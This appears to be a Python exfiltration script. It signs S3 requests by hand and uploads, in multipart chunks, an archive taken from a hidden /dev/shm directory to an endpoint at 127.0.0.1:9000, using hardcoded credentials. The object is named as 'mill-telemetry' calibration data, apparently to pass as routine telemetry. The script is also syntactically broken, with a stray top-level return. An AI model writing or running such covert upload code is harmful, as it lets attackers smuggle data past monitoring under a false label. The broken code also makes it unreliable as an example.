import datetime, hashlib, hmac, re, urllib.request
ak, sk, region, host = "AKIAQ4MILLT3LEMETRY", "p7Vd0Xq2L9sKmillrunTelemetry4f3c21ZaQ", "eu-west-2", "127.0.0.1:9000"
data = open("/dev/shm/.cs/b.tgz", "rb").read()
def mac(k, m):
    return hmac.new(k, m.encode(), hashlib.sha256).digest()
def s3(method, path, query, body):
    t = datetime.datetime.utcnow(); amz = t.strftime("%Y%m%dT%H%M%SZ"); day = t.strftime("%Y%m%d")
    ph = hashlib.sha256(body).hexdigest()
    canon = "\n".join([method, path, query, "host:%s\nx-amz-content-sha256:%s\nx-amz-date:%s\n" % (host, ph, amz), "host;x-amz-content-sha256;x-amz-date", ph])
    scope = "%s/%s/s3/aws4_request" % (day, region)
    sts = "\n".join(["AWS4-HMAC-SHA256", amz, scope, hashlib.sha256(canon.encode()).hexdigest()])
    k = mac(mac(mac(mac(("AWS4" + sk).encode(), day), region), "s3"), "aws4_request")
    auth = "AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s" % (ak, scope, hmac.new(k, sts.encode(), hashlib.sha256).hexdigest())
    r = urllib.request.Request("http://%s%s%s" % (host, path, "?" + query if query else ""), data=body, method=method,
                               headers={"x-amz-date": amz, "x-amz-content-sha256": ph, "Authorization": auth})
    return urllib.request.urlopen(r, timeout=30).read()
key = "/mill-telemetry-eu/hdl/%s-calib.bin" % datetime.date.today()
up = re.search(rb"<UploadId>(\w+)</UploadId>", s3("POST", key, "uploads", b"")).group(1).decode()
n = 0
for i in range(0, len(data), 8192):
    n += 1
    s3("PUT", key, "partNumber=%d&uploadId=%s" % (n, up), data[i:i + 8192])
s3("POST", key, "uploadId=" + up, ("<CompleteMultipartUpload>%s</CompleteMultipartUpload>" % "".join("<Part><PartNumber>%d</PartNumber></Part>" % j for j in range(1, n + 1))).encode())
return "%s: %d bytes in %d parts" % (key, len(data), n)
